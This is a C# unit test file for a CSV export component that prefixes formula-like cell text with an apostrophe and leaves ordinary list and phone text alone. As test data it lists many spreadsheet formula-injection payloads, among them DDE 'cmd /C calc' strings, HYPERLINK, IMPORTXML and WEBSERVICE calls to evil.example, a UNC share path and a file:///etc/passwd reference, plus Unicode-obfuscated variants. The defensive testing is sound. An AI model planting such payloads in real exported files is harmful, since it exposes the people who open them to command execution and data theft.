using System.Diagnostics;
using System.Text;
using ConvLog.AspNetCore.Api.Export;

namespace ConvLog.AspNetCore.Tests.Api.Export;

/// <summary>Text that a spreadsheet would run as a formula gets an apostrophe. Ordinary text does not, because it may become training data.</summary>
public sealed class CsvTextTests
{
    [Theory]
    [InlineData("- item")]
    [InlineData("- item one\n- item two\n- 3rd item")]
    [InlineData("* one\n+ two\n-- three")]
    [InlineData("| a | b |\n|---|---|\n| - | +1 |")]
    [InlineData("joe; @ann")]
    [InlineData("@ann, can you call back?")]
    [InlineData("- Great! Thanks")]
    [InlineData("- yes | no")]
    [InlineData("- item (x)")]
    [InlineData("- Standard room (2 beds, sea view)\n- Suite (sold out)")]
    [InlineData("- Größe (ça va) – wait (don't)")]
    [InlineData("@ann (Sales) asked")]
    [InlineData("-----")]
    [InlineData("- [ ] call #12 back")]
    [InlineData("-5")]
    [InlineData("-5.25 %")]
    [InlineData("+15550100")]
    [InlineData("+49 30 123456")]
    [InlineData("+1 (555) 010-0100")]
    [InlineData("\tindented")]
    [InlineData("\nHello")]
    [InlineData("yes; no = maybe")]
    public void Ordinary_text_is_left_unchanged(string text) => Cell(text).Should().Be(text);

    [Theory]
    [InlineData("=1+1")]
    [InlineData("= maybe")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+cmd|' /C calc'! A0")]
    [InlineData("-cmd｜' /C calc'！A0")]
    [InlineData("@SUM(A1)")]
    [InlineData("+SUM (A1)")]
    [InlineData("- words first HYPERLINK(\"https://evil.example\")")]
    [InlineData("- item\n- IMPORTXML(\"https://evil.example\")")]
    [InlineData("- NOW ()")]
    [InlineData("- ROUND (5)")]
    [InlineData("-WEBSERVICE (A1)")]
    [InlineData("-WEBSERVICE (a1 b)")]
    [InlineData("-WEBSERVICE (Ａ１)")]
    [InlineData("-WEBSERVICE ($A1)")]
    [InlineData("-WEBSERVICE (A:A)")]
    [InlineData("-WEBSERVICE (2:2)")]
    [InlineData("-WEBSERVICE (R[-1]C)")]
    [InlineData("-HYPERLINK (\"https://evil.example\", see below)")]
    [InlineData("-HYPERLINK （＂https://evil.example＂）")]
    [InlineData("-HYPERLINK (see (CHAR (104)))")]
    [InlineData("- words (first) HYPERLINK (\"https://evil.example\"")]
    [InlineData("-item(x)")]
    [InlineData("＋SUM（1）")]
    [InlineData("－HYPERLINK（\"https://evil.example\"）")]
    [InlineData("＠SUM(1)")]
    [InlineData("﹣SUM(1)")]
    [InlineData("﹦1")]
    [InlineData("-'\\\\evil.example\\share\\[book.xls]Sheet'!A1")]
    [InlineData("-book.xls!name")]
    [InlineData("-'file:///etc/passwd'#$passwd.A1")]
    [InlineData("+-+1")]
    [InlineData("-2+3")]
    [InlineData("+1-555-0100")]
    [InlineData("-A1")]
    [InlineData("+$B$2*3")]
    [InlineData("+\"a\"&\"b\"")]
    [InlineData("  @SUM(1)")]
    [InlineData("\u00A0\u200B\uFEFF=1")]
    [InlineData("\0=1")]
    public void Formula_text_is_prefixed_with_an_apostrophe(string text)
    {
        Cell(text).Replace("'", "", StringComparison.Ordinal).Should().Be(text.Replace("'", "", StringComparison.Ordinal));
        Cell(text).Should().StartWith("'");
        Cell("a;" + text).Should().Contain(";'", "some spreadsheets begin a cell there");
        Cell("| a |" + text.TrimStart('\t', ' ', '\u00A0')).Should().NotStartWith("'").And.Contain("|'");
    }

    [Fact]
    public void No_apostrophe_is_added_if_the_host_disables_it() => Cell("=1+1;=2", escapesFormulas: false).Should().Be("=1+1;=2");

    [Fact]
    public void A_long_text_is_escaped_in_linear_time()
    {
        string text = string.Concat(Enumerable.Repeat("\n- ( 1 | a", 50_000));
        long started = Stopwatch.GetTimestamp();

        Cell(text).Should().Be(text);

        Stopwatch.GetElapsedTime(started).Should().BeLessThan(TimeSpan.FromSeconds(5));
    }

    private static string Cell(string value, bool escapesFormulas = true)
    {
        var text = new StringBuilder();
        new CsvText(text, escapesFormulas).Text(value);
        text.ToString().Should().StartWith("\"").And.EndWith("\"");
        return text.ToString()[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal);
    }
}
